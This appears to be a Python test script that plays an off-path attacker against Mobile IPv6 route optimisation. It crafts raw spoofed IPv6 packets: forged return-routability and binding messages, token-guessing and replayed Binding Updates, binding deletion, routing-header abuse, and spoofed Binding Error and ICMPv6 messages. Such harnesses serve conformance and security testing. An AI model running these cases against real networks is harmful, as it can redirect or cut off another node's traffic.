#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Somebody who would like to have a mobile's packets.

    ro_attack.py CASE EVE CN HOA COA [CAPTURE]

EVE is an address of ours; we are on no way between the three others, but
we may send from any address.  Prints what was sent, and fails when a case
cannot be made.  With CAPTURE, what a node on the mobile's link has seen.
"""
import hashlib
import hmac
import os
import socket
import struct
import sys
import time

from scapy.layers.inet6 import IPv6, in6_chksum
from scapy.utils import rdpcap

CASE, EVE, CN, HOA, COA = sys.argv[1:6]
CAPTURE = sys.argv[6] if len(sys.argv) > 6 else None
STRANGER = "2001:db8:1::99"
BRR, HOTI, COTI, HOT, COT, BU, BA, BE = range(8)
PORT = 7000


def raw(address):
    return socket.inet_pton(socket.AF_INET6, address)


def ip6(src, dst, nxt, rest):
    return struct.pack("!IHBB", 6 << 28, len(rest), nxt, 64) + \
        raw(src) + raw(dst) + rest


def mh(kind, data, src, dst):
    """src, dst: what the checksum is about"""
    head = struct.pack("!BBBBH", 59, (6 + len(data)) // 8 - 1, kind, 0, 0)
    csum = in6_chksum(135, IPv6(src=src, dst=dst), head + data)
    return head[:4] + struct.pack("!H", csum) + data


def udp(src, dst):
    text = CASE.encode()
    head = struct.pack("!HHHH", PORT, PORT, 8 + len(text), 0)
    csum = in6_chksum(17, IPv6(src=src, dst=dst), head + text)
    return head[:6] + struct.pack("!H", csum) + text


def icmp(kind, code, param, about, src, dst):
    head = struct.pack("!BBHI", kind, code, 0, param)
    csum = in6_chksum(58, IPv6(src=src, dst=dst), head + about)
    return head[:2] + struct.pack("!H", csum) + head[4:] + about


def hao(address, nxt):
    return bytes([nxt, 2, 1, 2, 0, 0, 201, 16]) + raw(address)


def rh2(address, nxt):
    return bytes([nxt, 2, 2, 1, 0, 0, 0, 0]) + raw(address)


def send(packet, dst):
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(packet, (dst, 0))
    s.close()


def kbm(home, careof):
    return hashlib.sha1(home + careof).digest()


def binding_update(seq, lifetime, nonces, key, coa, hoa=HOA):
    """With Nonce Indices and Binding Authorization Data (6.2.6, 6.2.7)."""
    data = struct.pack("!HHH", seq, 0x8000, lifetime)
    data += struct.pack("!BBHH", 4, 4, *nonces) + bytes([5, 12])
    bare = mh(BU, data + bytes(12), hoa, CN)
    cut = bare[:4] + b"\0\0" + bare[6:-12]
    auth = hmac.new(key, raw(coa) + raw(CN) + cut, hashlib.sha1).digest()[:12]
    return mh(BU, data + auth, hoa, CN)


def send_bu(message, coa, hoa=HOA):
    send(ip6(coa, CN, 60, hao(hoa, 135) + message), CN)


def ask(kind, cookie):
    """A test of our own: (nonce index, token) of EVE."""
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 135)
    s.settimeout(3)
    s.bind((EVE, 0))
    send(ip6(EVE, CN, 135, mh(kind, b"\0\0" + cookie, EVE, CN)), CN)
    while True:
        m = s.recv(2000)
        if m[2] == kind + 2 and m[8:16] == cookie:
            return struct.unpack("!H", m[6:8])[0], m[16:24]


def seen(kind, nth=0):
    """The IPv6 packet of a message that CAPTURE has, sent by COA to CN."""
    found = []
    for frame in rdpcap(CAPTURE):
        p = bytes(frame)[14:]
        if p[:1] != b"\x60" or p[8:24] != raw(COA) or p[24:40] != raw(CN):
            continue
        at, nxt = 40, p[6]
        while nxt == 60:
            nxt, at = p[at], at + (p[at + 1] + 1) * 8
        if nxt == 135 and p[at + 2] == kind:
            found.append(p)
    return found[nth]


def cot_forged():
    """Nobody has asked for it, or the cookie is another."""
    for nonce in range(1, 9):
        data = struct.pack("!H", nonce) + os.urandom(16)
        send(ip6(CN, COA, 135, mh(COT, data, CN, COA)), COA)


def hot_forged():
    """Through the home agent, as a true one would come; and directly, to
    the care-of address, with and without a routing header."""
    data = struct.pack("!H", 1) + os.urandom(16)
    send(ip6(CN, HOA, 135, mh(HOT, data, CN, HOA)), HOA)
    send(ip6(CN, COA, 135, mh(HOT, data, CN, COA)), COA)
    send(ip6(CN, COA, 43, rh2(HOA, 135) + mh(HOT, data, CN, HOA)), COA)


def bu_bare():
    """A guess, without tokens: nothing of what must be in it."""
    send_bu(mh(BU, struct.pack("!HHHH", 60000, 0x8000, 60, 0x0100), HOA, CN),
            EVE)


def bu_nonce():
    """With indices of nonces that there never were."""
    known, _ = ask(COTI, os.urandom(8))
    far = [(known + n - 1) % 65535 + 1 for n in (100, 200)]
    send_bu(binding_update(60000, 60, far, os.urandom(20), EVE), EVE)


def bu_own_tokens():
    """With true tokens, but of our own address, twice."""
    h, home = ask(HOTI, os.urandom(8))
    c, careof = ask(COTI, os.urandom(8))
    send_bu(binding_update(60000, 60, (h, c), kbm(home, careof), EVE), EVE)


def bu_home_of_another():
    """Our care-of token is good; the home token is a guess."""
    c, careof = ask(COTI, os.urandom(8))
    send_bu(binding_update(60000, 60, (c, c), kbm(os.urandom(8), careof),
                           EVE), EVE)


def bu_delete():
    """To delete what stands: only a home token is needed."""
    h, home = ask(HOTI, os.urandom(8))
    send_bu(binding_update(60000, 0, (h, 0), hashlib.sha1(home).digest(),
                           HOA), EVE)


def bu_replay():
    """What the mobile itself has sent, once more."""
    send(seen(BU), CN)


def bu_replay_elsewhere():
    """The same, as if from our address."""
    p = seen(BU)
    send(p[:8] + raw(EVE) + p[24:], CN)


def ba_forged():
    """Refusals and an acceptance, without the key."""
    for status in (0, 129, 138, 139):
        data = struct.pack("!BBHH", status, 0, 1, 100) + bytes([1, 2, 0, 0])
        m = mh(BA, data, CN, HOA)
        send(ip6(CN, COA, 43, rh2(HOA, 135) + m), COA)


def hao_spoof():
    """A datagram that says it is the mobile's."""
    send(ip6(EVE, CN, 60, hao(HOA, 17) + udp(HOA, CN)), CN)


def rh2_foreign():
    """A routing header that leads on, to somebody else."""
    for a in (STRANGER, CN, EVE):
        send(ip6(EVE, COA, 43, rh2(a, 17) + udp(EVE, a)), COA)


def rh2_at_correspondent():
    """A correspondent has no home address."""
    send(ip6(EVE, CN, 43, rh2(HOA, 17) + udp(EVE, HOA)), CN)


def send_be(status, src):
    data = struct.pack("!BB", status, 0) + raw(HOA)
    send(ip6(src, COA, 135, mh(BE, data, src, COA)), COA)


def be_stranger():
    """Errors of somebody that the mobile has no binding with."""
    send_be(1, EVE)
    send_be(2, EVE)


def be_unsupported():
    """"Not supported", as if of the correspondent; nobody has asked it."""
    send_be(2, CN)


def be_lost():
    """"No such binding", as if of the correspondent."""
    send_be(1, CN)


def brr_stranger():
    """Of somebody that the mobile has no binding with; and as if of the
    correspondent, but to the care-of address."""
    send(ip6(EVE, HOA, 135, mh(BRR, b"\0\0", EVE, HOA)), HOA)
    send(ip6(EVE, COA, 135, mh(BRR, b"\0\0", EVE, COA)), COA)
    send(ip6(CN, COA, 135, mh(BRR, b"\0\0", CN, COA)), COA)


def brr_forged():
    """As if of the correspondent, to the home address."""
    send(ip6(CN, HOA, 135, mh(BRR, b"\0\0", CN, HOA)), HOA)


# What the two send each other.
FROM_MN = ip6(COA, CN, 60, hao(HOA, 17) + udp(HOA, CN))
FROM_CN = ip6(CN, COA, 43, rh2(HOA, 17) + udp(CN, HOA))


def send_error(kind, code, param, about, to):
    """As if of the other end, and of a router in between, who is EVE."""
    for src in (CN if to == COA else COA, EVE):
        send(ip6(src, to, 58, icmp(kind, code, param, about, src, to)), to)


def unreachable():
    """Destination Unreachable, each code, about what both send."""
    for code in range(6):
        send_error(1, code, 0, FROM_CN, CN)
        send_error(1, code, 0, FROM_MN, COA)


def parameter_problem():
    """Of the Mobility Header, the Home Address option, the routing header."""
    send_error(4, 1, 6, seen(BU), COA)
    send_error(4, 1, 6, seen(COTI), COA)
    send_error(4, 2, 44, FROM_MN, COA)
    send_error(4, 0, 42, FROM_CN, CN)


CASES = {f.__name__: f for f in (
    cot_forged, hot_forged, bu_bare, bu_nonce, bu_own_tokens,
    bu_home_of_another, bu_delete, bu_replay, bu_replay_elsewhere, ba_forged,
    hao_spoof, rh2_foreign, rh2_at_correspondent, be_stranger, be_unsupported,
    brr_stranger, unreachable, parameter_problem)}
# These have an effect, for a moment.
HEEDED = {f.__name__: f for f in (be_lost, brr_forged)}


def main():
    if CASE == "cases":
        print("\n".join(CASES))
        return 0
    CASES.update(HEEDED)
    CASES[CASE]()
    time.sleep(0.3)
    print(CASES[CASE].__doc__)
    return 0


sys.exit(main())
